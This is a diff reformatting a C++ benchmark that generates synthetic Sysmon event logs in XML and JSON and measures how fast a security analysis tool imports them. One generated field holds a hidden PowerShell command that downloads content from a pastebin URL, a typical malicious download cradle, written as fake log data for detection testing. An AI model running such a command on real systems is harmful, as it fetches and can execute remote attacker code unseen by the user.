@@ -92,14 +92,16 @@ int eventFields(int i, std::vector<Field>& f, std::string& computer, std::string
     f.push_back({"Company", "Microsoft Corporation"});
     f.push_back({"OriginalFileName", "PowerShell.EXE"});
     f.push_back({"Image", image});
-    f.push_back({"CommandLine", "powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/" + std::to_string(i) + "\""});
+    f.push_back(
+        {"CommandLine", "powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/" + std::to_string(i) + "\""});
     f.push_back({"CurrentDirectory", R"(C:\Users\alice\)"});
     f.push_back({"User", R"(CORP\alice)"});
     f.push_back({"LogonGuid", "{4d8c1a2b-0000-65e1-0000-0020e8030000}"});
     f.push_back({"LogonId", "0x3e8"});
     f.push_back({"TerminalSessionId", "1"});
     f.push_back({"IntegrityLevel", "Medium"});
-    f.push_back({"Hashes", "SHA256=9E57914D39FBFE785C915E225011892613C4714C9E57914D39FBFE785C915E22,IMPHASH=B6789EDFE23DDA911AE37C87444D3DCB"});
+    f.push_back({"Hashes", "SHA256=9E57914D39FBFE785C915E225011892613C4714C9E57914D39FBFE785C915E22,IMPHASH="
+                           "B6789EDFE23DDA911AE37C87444D3DCB"});
     f.push_back({"ParentProcessGuid", "{4d8c1a2b-0000-65e1-0000-001000000001}"});
     f.push_back({"ParentProcessId", "900"});
     f.push_back({"ParentImage", R"(C:\Windows\explorer.exe)"});
@@ -146,7 +148,8 @@ void generate(const std::string& xmlPath, const std::string& jsonPath, int n) {
                "Name=\"Microsoft-Windows-Sysmon\" Guid=\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\"/><EventID>"
             << id << "</EventID><Version>5</Version><Level>4</Level><Task>" << id
             << "</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime=\"" << iso
-            << "0000Z\"/><EventRecordID>" << i + 1 << "</EventRecordID><Correlation/><Execution ProcessID=\"2780\" "
+            << "0000Z\"/><EventRecordID>" << i + 1
+            << "</EventRecordID><Correlation/><Execution ProcessID=\"2780\" "
                "ThreadID=\"3676\"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>"
             << computer << "</Computer><Security UserID=\"S-1-5-18\"/></System><EventData>";
         for (const Field& x : f) {
@@ -156,10 +159,15 @@ void generate(const std::string& xmlPath, const std::string& jsonPath, int n) {
         json << "{\"EventTime\":\"" << utc.substr(0, 19) << "\",\"Hostname\":\"" << computer
              << "\",\"Keywords\":-9223372036854775808,\"EventType\":\"INFO\",\"SeverityValue\":2,\"Severity\":\"INFO\","
                 "\"EventID\":"
-             << id << ",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"ProviderGuid\":\"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}\","
-                      "\"Version\":5,\"Task\":" << id << ",\"OpcodeValue\":0,\"RecordNumber\":" << i + 1
-             << ",\"ExecutionProcessID\":2780,\"ExecutionThreadID\":3676,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
-                "\"Domain\":\"NT AUTHORITY\",\"AccountName\":\"SYSTEM\",\"UserID\":\"S-1-5-18\",\"AccountType\":\"User\"";
+             << id
+             << ",\"SourceName\":\"Microsoft-Windows-Sysmon\",\"ProviderGuid\":\"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
+                "\","
+                "\"Version\":5,\"Task\":"
+             << id << ",\"OpcodeValue\":0,\"RecordNumber\":" << i + 1
+             << ",\"ExecutionProcessID\":2780,\"ExecutionThreadID\":3676,\"Channel\":\"Microsoft-Windows-Sysmon/"
+                "Operational\","
+                "\"Domain\":\"NT "
+                "AUTHORITY\",\"AccountName\":\"SYSTEM\",\"UserID\":\"S-1-5-18\",\"AccountType\":\"User\"";
         for (const Field& x : f) {
             json << ",\"" << x.name << "\":\"" << jsonEscape(x.value) << "\"";
         }
@@ -210,7 +218,8 @@ int main(int argc, char** argv) {
     const std::string xml = dir.filePath(QStringLiteral("events.xml")).toStdString();
     const std::string json = dir.filePath(QStringLiteral("events.json")).toStdString();
     std::printf("bench_sysmon: %d generated Sysmon events (40%% EID 3, 30%% EID 22, 20%% EID 11, 10%% EID 1), "
-                "2 cores, median of 3\n", n);
+                "2 cores, median of 3\n",
+                n);
     generate(xml, json, n);
     for (const auto& [format, path] : {std::pair{"sysmon-xml", xml}, std::pair{"sysmon-json", json}}) {
         const QString qpath = QString::fromStdString(path);
@@ -233,8 +242,8 @@ int main(int argc, char** argv) {
         // The last run's case: what SQLite alone needs to store those event, process, connection and
         // DNS rows with their indexes.
         const std::string lastCase = dir.filePath(QStringLiteral("case2.socwb")).toStdString();
-        const bench::Measure floor = bench::sqliteFloor(dir.path().toStdString(), lastCase,
-                                                        {"processes", "sysmon_events", "net_connections", "dns_queries"});
+        const bench::Measure floor = bench::sqliteFloor(
+            dir.path().toStdString(), lastCase, {"processes", "sysmon_events", "net_connections", "dns_queries"});
         QFile::remove(QString::fromStdString(lastCase));
         std::printf("%-12s %7.1f MB  parse only: %9.0f events/s  (%lld events)   full import: %9.0f events/s, "
                     "peak RSS %ld MB, exit %d   goal >= 150000 events/s\n"
@@ -252,9 +261,9 @@ int main(int argc, char** argv) {
     const double parse = parseRate("evtx", evtx, repeat, events);
     std::vector<bench::Measure> ref;
     for (int run = 0; run < 3; ++run) {
-        ref.push_back(bench::runChild({"/bin/sh", "-c", "for i in $(seq " + std::to_string(repeat) +
-                                                            "); do evtxexport -f xml '" + evtx.toStdString() +
-                                                            "' >/dev/null; done"}));
+        ref.push_back(bench::runChild({"/bin/sh", "-c",
+                                       "for i in $(seq " + std::to_string(repeat) + "); do evtxexport -f xml '" +
+                                           evtx.toStdString() + "' >/dev/null; done"}));
     }
     const bench::Measure m = bench::median(ref);
     std::printf("%-12s bits_openvpn.evtx x%d (%lld records): socwb %9.0f events/s   reference evtxexport -f xml: "
